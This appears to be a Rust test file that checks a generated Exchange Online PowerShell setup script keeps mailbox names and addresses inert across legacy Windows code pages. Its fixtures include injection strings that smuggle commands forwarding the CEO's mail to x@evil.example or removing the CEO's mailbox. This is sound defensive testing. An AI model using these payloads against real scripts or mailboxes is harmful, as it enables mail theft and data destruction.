#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;

use encoding_rs::{
    Encoding, GBK, SHIFT_JIS, WINDOWS_1250, WINDOWS_1251, WINDOWS_1252, WINDOWS_1253, WINDOWS_1254,
    WINDOWS_1257,
};
use proptest::prelude::*;
use uuid::Uuid;

use super::{
    powershell::{Argument, Command, Parsed, Word, parse},
    *,
};
use crate::{
    cmdlet::{Takes, takes},
    id::{AppId, ObjectId},
    plan::{Confined, MailboxKind},
};

/// The code pages in which Windows PowerShell 5.1 reads a file without a byte order mark, by the
/// machine's region.
const CODE_PAGES: [&Encoding; 8] = [
    WINDOWS_1250,
    WINDOWS_1251,
    WINDOWS_1252,
    WINDOWS_1253,
    WINDOWS_1254,
    WINDOWS_1257,
    SHIFT_JIS,
    GBK,
];
const QUOTES: [char; 5] = ['\'', '\u{2018}', '\u{2019}', '\u{201a}', '\u{201b}'];
const EVIL: &str = "\u{151}; Set-Mailbox ceo -ForwardingSmtpAddress x@evil.example #";
const NAMES: [&str; 9] = [
    "K\u{fc}ld\u{151}",
    "Poczta G\u{142}\u{f3}wna",
    "\u{41f}\u{43e}\u{447}\u{442}\u{430}",
    "ESPA\u{d1}A",
    "\u{110}or\u{111}e",
    EVIL,
    "x\r\nRemove-Mailbox ceo",
    "x\u{2028}Remove-Mailbox ceo",
    "#> ' \u{2019} \" $(Remove-Mailbox ceo) `",
];

fn mailbox(number: u128, address: &str) -> Mailbox {
    Mailbox {
        object: ObjectId(Uuid::from_u128(number)),
        address: address.parse().unwrap(),
        name: EVIL.into(),
        kind: MailboxKind::User,
    }
}

fn plan(name: &str) -> Plan {
    Plan {
        application: Confined {
            object: ObjectId(Uuid::from_u128(4)),
            app_id: AppId(Uuid::from_u128(5)),
            name: name.into(),
        },
        senders: vec![
            mailbox(1, "o'neil@a.example"),
            mailbox(2, "k\u{fc}ld\u{151}\u{2019}@a.example"),
        ],
        refused: vec![mailbox(3, "$ceo`@a.example")],
        group: Group::New {
            name: GroupName::parse("g").unwrap(),
            address: "g@a.example".parse().unwrap(),
        },
        prove: false,
        unprovable: None,
        recipient: None,
        accepted: Vec::new(),
    }
}

fn existing(name: &str) -> Plan {
    Plan {
        group: Group::Existing {
            object: ObjectId(Uuid::from_u128(6)),
            name: EVIL.into(),
            address: "k\u{fc}ld\u{151}@a.example".parse().unwrap(),
        },
        ..plan(name)
    }
}

fn written(plan: &Plan) -> String {
    script(plan, SetupId(Uuid::from_u128(7)), "a.example")
}

fn read(text: &str) -> Parsed {
    parse(text).unwrap_or_else(|wrong| panic!("{wrong}"))
}

/// Checks that the text is the same in every code page, and that its quotes match.
fn reads_alike_everywhere(text: &str) {
    let count = |text: &str| text.chars().filter(|c| QUOTES.contains(c)).count();
    for page in CODE_PAGES {
        let (decoded, _) = page.decode_without_bom_handling(text.as_bytes());
        assert_eq!(count(&decoded), count(text), "{}", page.name());
        assert_eq!(decoded, text, "{}", page.name());
    }
}

#[test]
fn reach_r02_the_script_reads_alike_in_every_code_page() {
    for name in NAMES {
        for plan in [plan(name), existing(name)] {
            let text = written(&plan);
            assert!(text.is_ascii(), "{name}");
            reads_alike_everywhere(&text);
            for cmdlet in plan.changes(SetupId(Uuid::from_u128(7))) {
                reads_alike_everywhere(&cmdlet.line());
                reads_alike_everywhere(&cmdlet.block());
            }
            assert!(file_name(&plan).is_ascii());
        }
    }
}

#[test]
fn reach_r02_a_name_is_in_a_comment_only() {
    for make in [plan, existing] {
        let harmless = read(&written(&make("a")));
        for name in NAMES {
            let parsed = read(&written(&make(name)));
            assert_eq!(parsed.words, harmless.words, "{name}");
            assert_eq!(parsed.comments.len(), harmless.comments.len(), "{name}");
        }
    }
}

#[test]
fn reach_r02_an_address_stays_what_it_is() {
    let parsed = read(&written(&plan("a")));
    for address in [
        "o'neil@a.example",
        "k\u{fc}ld\u{151}\u{2019}@a.example",
        "$ceo`@a.example",
    ] {
        assert!(
            parsed.literals.iter().any(|literal| literal == address),
            "{address}"
        );
    }
}

proptest! {
    #[test]
    fn reach_r02_no_name_and_no_address_leaves_its_place(
        name in ".{0,130}",
        local in "[^\\s@<>()\\[\\]\\\\,;:\"\\p{C}]{1,20}",
    ) {
        let mut plan = plan(&name);
        let address = format!("{local}@a.example");
        prop_assume!(address.parse::<crate::address::MailAddress>().is_ok());
        plan.senders = vec![mailbox(1, &address)];
        let text = written(&plan);
        prop_assert!(text.is_ascii());
        reads_alike_everywhere(&text);
        let parsed = parse(&text).map_err(|wrong| TestCaseError::fail(wrong.to_string()))?;
        let address = plan.senders.first().map(|sender| sender.address.as_str().to_owned());
        prop_assert!(parsed.literals.iter().any(|literal| Some(literal) == address.as_ref()));
        // The script has one test for each mailbox, and nothing else.
        let harmless = read(&written(&Plan { senders: vec![mailbox(1, "x@a.example")], ..plan }));
        prop_assert_eq!(parsed.commands.len(), harmless.commands.len());
    }

    #[test]
    fn reach_r02_a_quoted_text_is_one_literal(text in "\\PC{0,40}") {
        let line = format!("Get-Recipient -Identity {}", quote(&text));
        prop_assert!(line.is_ascii());
        let parsed = parse(&line).map_err(|wrong| TestCaseError::fail(wrong.to_string()))?;
        prop_assert_eq!(parsed.literals, vec![text]);
        prop_assert_eq!(parsed.commands.len(), 1);
    }
}

/// PowerShell's own commands, and the two that connect: the switches; the parameters with a value;
/// the maximum number of words without a parameter's name.
type Own = (
    &'static str,
    &'static [&'static str],
    &'static [&'static str],
    usize,
);
const OWN: [Own; 16] = [
    ("&", &[], &[], 0),
    (
        "Connect-ExchangeOnline",
        &["UseRPSSession"],
        &["UserPrincipalName"],
        0,
    ),
    ("Disconnect-ExchangeOnline", &["Confirm"], &[], 0),
    ("ForEach-Object", &[], &[], 1),
    ("Format-List", &[], &["Property"], 0),
    ("Format-Table", &["AutoSize"], &[], 0),
    ("Get-Command", &[], &["Name", "ErrorAction"], 0),
    ("Get-Date", &[], &[], 0),
    ("Get-Module", &["ListAvailable"], &["Name"], 0),
    ("Import-Module", &[], &["Name"], 0),
    ("Out-Null", &[], &[], 0),
    ("Out-String", &[], &["Width"], 0),
    ("Read-Host", &[], &["Prompt"], 0),
    ("Select-Object", &[], &["Property"], 0),
    ("Start-Sleep", &[], &["Seconds"], 0),
    ("Where-Object", &[], &[], 1),
];
const WRITES: [&str; 2] = ["Write-Host", "Write-Warning"];

type KindOf<'a> = Box<dyn Fn(&str) -> Option<Takes> + 'a>;

/// Checks that the command is known and that each parameter gets a value of its type.
fn fits(command: &Command, functions: &BTreeMap<&str, usize>) -> Result<(), String> {
    let name = command.name.as_str();
    let wrong = |what: &str| Err(format!("{name}: {what}: {command:?}"));
    let mut most = usize::MAX;
    let mut kind_of: KindOf<'_> = Box::new(|_| None);
    if let Some(parameters) = functions.get(name) {
        let given = command.arguments.len();
        return match given == *parameters {
            true => Ok(()),
            false => wrong("another number of arguments"),
        };
    } else if WRITES.contains(&name) {
        most = 1;
    } else if let Some((_, switches, values, words)) = OWN.iter().find(|own| own.0 == name) {
        most = *words;
        kind_of = Box::new(|parameter| match parameter {
            p if switches.contains(&p) => Some(Takes::Switch),
            p if values.contains(&p) => Some(Takes::List),
            _ => None,
        });
    } else if name.contains('-') {
        // A cmdlet of Exchange: every argument needs its parameter's name.
        most = 0;
        kind_of = Box::new(|parameter| takes(name, parameter));
    }
    if most == usize::MAX {
        return wrong("not known");
    }
    let mut words = 0;
    let mut arguments = command.arguments.iter().peekable();
    while let Some(argument) = arguments.next() {
        let (parameter, beside) = match argument {
            Argument::Word(_) => {
                words += 1;
                continue;
            }
            Argument::Parameter(parameter, beside) => (parameter, beside.clone()),
        };
        let Some(kind) = kind_of(parameter) else {
            return wrong(&format!("no parameter {parameter}"));
        };
        let truth =
            |word: &Word| matches!(word, Word::Variable(name) if name == "true" || name == "false");
        match (kind, beside) {
            (Takes::Switch, None) => {}
            (Takes::Switch | Takes::Boolean, Some(word)) if truth(&word) => {}
            (Takes::Switch, Some(_)) => return wrong(&format!("{parameter} is a switch")),
            (_, Some(_)) => return wrong(&format!("{parameter} with a colon")),
            (kind, None) => {
                let Some(Argument::Word(word)) = arguments.next() else {
                    return wrong(&format!("{parameter} lacks its value"));
                };
                match (kind, word) {
                    (Takes::Boolean, word) if !truth(word) => {
                        return wrong(&format!("{parameter} is a Boolean"));
                    }
                    (Takes::Value, Word::List) => {
                        return wrong(&format!("{parameter} takes one value"));
                    }
                    (_, Word::Block | Word::Table) => {
                        return wrong(&format!("{parameter} takes no block"));
                    }
                    _ => {}
                }
            }
        }
    }
    match words <= most {
        true => Ok(()),
        false => wrong("a word too many"),
    }
}

fn all_fit(text: &str) -> Result<Parsed, String> {
    let parsed = parse(text).map_err(|wrong| wrong.to_string())?;
    let functions: BTreeMap<&str, usize> = parsed
        .functions
        .iter()
        .map(|(name, parameters)| (name.as_str(), *parameters))
        .collect();
    for command in &parsed.commands {
        fits(command, &functions)?;
    }
    Ok(parsed)
}

#[test]
fn reach_m13_every_command_of_the_script_gets_what_it_takes() {
    for plan in [plan("a"), existing("a")] {
        let parsed = all_fit(&written(&plan)).unwrap();
        let ran = |name: &str| {
            parsed
                .commands
                .iter()
                .filter(|command| command.name == name)
                .count()
        };
        assert_eq!(ran("New-ApplicationAccessPolicy"), 1);
        assert_eq!(ran("Test-ApplicationAccessPolicy"), 3);
        assert_eq!(ran("Get-Verdict"), 3);
        assert_eq!(ran("Assert-Mailbox"), 3);
        let new = usize::from(matches!(plan.group, Group::New { .. }));
        assert_eq!(ran("New-DistributionGroup"), new);
        assert_eq!(ran("Set-DistributionGroup"), new);
        assert_eq!(ran("Add-DistributionGroupMember"), 2 * new);
    }
}

#[test]
fn ux_u04_what_is_copied_gets_what_it_takes() {
    for plan in [plan("a"), existing("a")] {
        for cmdlet in plan.changes(SetupId(Uuid::from_u128(7))) {
            all_fit(&cmdlet.line()).unwrap();
        }
    }
}

#[test]
fn ux_u04_the_reader_of_these_tests_sees_what_powershell_refuses() {
    for (line, why) in [
        (
            "Set-DistributionGroup -Identity 'g' -HiddenFromAddressListsEnabled -BypassSecurityGroupManagerCheck",
            "lacks its value",
        ),
        (
            "Set-DistributionGroup -Identity 'g' -BypassSecurityGroupManagerCheck $true",
            "a word too many",
        ),
        (
            "New-DistributionGroup -Name 'g' -HiddenFromAddressListsEnabled $true",
            "no parameter",
        ),
        (
            "Test-ApplicationAccessPolicy -Identity @('a', 'b')",
            "takes one value",
        ),
        ("Get-DistributionGroup 'g'", "a word too many"),
        ("Get-DistributionGroup -Identity 'g", "without an end"),
        ("Get-DistributionGroup -Identity 'g'x", "after its end"),
        ("if ($x) { Get-Date", "within a block"),
        ("try { Get-Date }", "a try without"),
    ] {
        let told = all_fit(line).unwrap_err();
        assert!(told.contains(why), "{line}: {told}");
    }
    // In this code page each byte of ő is a letter of its own, and one of them is a quote.
    let old = "New-DistributionGroup -Description 'by \u{151}; Set-Mailbox ceo #'";
    let (decoded, _) = WINDOWS_1252.decode_without_bom_handling(old.as_bytes());
    let parsed = parse(&decoded).unwrap();
    assert_eq!(parsed.commands.last().unwrap().name, "Set-Mailbox");
}

/// The order in which the script does things.
fn places(text: &str, parts: &[&str]) -> Vec<usize> {
    parts
        .iter()
        .map(|part| text.find(part).unwrap_or_else(|| panic!("no {part}")))
        .collect()
}

#[test]
fn reach_m13_it_compares_first_and_hides_the_group_after_it_was_found() {
    let text = written(&plan("a"));
    let order = places(
        &text,
        &[
            "Connect-ExchangeOnline -UserPrincipalName $admin\r\n",
            "        Assert-Mailbox '",
            "-notlike 'Postern 00000000-0000-0000-0000-000000000007*'",
            "$strangers",
            "try { Get-ApplicationAccessPolicy }",
            "Get-ManagementRoleAssignment",
            "New-DistributionGroup",
            "while (-not ($group = Find-Group))",
            "Set-DistributionGroup",
            "Add-DistributionGroupMember",
            "New-ApplicationAccessPolicy",
            "Test-ApplicationAccessPolicy",
            "$verdicts | Format-Table",
            "Disconnect-ExchangeOnline",
        ],
    );
    assert!(order.is_sorted(), "{order:?}");
    let text = written(&existing("a"));
    let order = places(
        &text,
        &[
            "The group of the plan is not there",
            "$strangers",
            "The group lacks members",
            "New-ApplicationAccessPolicy",
        ],
    );
    assert!(order.is_sorted(), "{order:?}");
}

#[test]
fn reach_m13_each_version_connects_in_its_own_way_and_the_loaded_one_decides() {
    let text = written(&plan("a"));
    let order = places(
        &text,
        &[
            "#     Install-Module -Name ExchangeOnlineManagement -Scope CurrentUser",
            "$version = (Get-Command -Name Connect-ExchangeOnline).Module.Version",
            "if ($version -lt [version]'2.0.4')",
            "if ($version -ge [version]'3.0.0') {\r\n        Connect-ExchangeOnline -UserPrincipalName $admin\r\n",
            "elseif ($version -ge [version]'2.0.6') {\r\n        Connect-ExchangeOnline -UserPrincipalName $admin -UseRPSSession\r\n",
            "else {\r\n        Connect-ExchangeOnline -UserPrincipalName $admin\r\n",
        ],
    );
    assert!(order.is_sorted(), "{order:?}");
}

#[test]
fn reach_m13_every_wait_has_an_end() {
    for plan in [plan("a"), existing("a")] {
        let text = written(&plan);
        for (at, _) in text.match_indices("while (") {
            let rest: String = text.chars().skip(at).take(700).collect();
            let until = rest.find("(Get-Date) -gt $").unwrap();
            let sleep = rest.find("Start-Sleep").unwrap();
            assert!(until < sleep, "{rest}");
        }
    }
}

#[test]
fn reach_m13_a_group_that_exists_is_asked_for_by_its_id() {
    let parsed = read(&written(&existing("a")));
    let named = "k\u{fc}ld\u{151}@a.example";
    assert!(!parsed.literals.iter().any(|literal| literal == named));
    let object = Uuid::from_u128(6).to_string();
    assert!(parsed.literals.contains(&object));
}
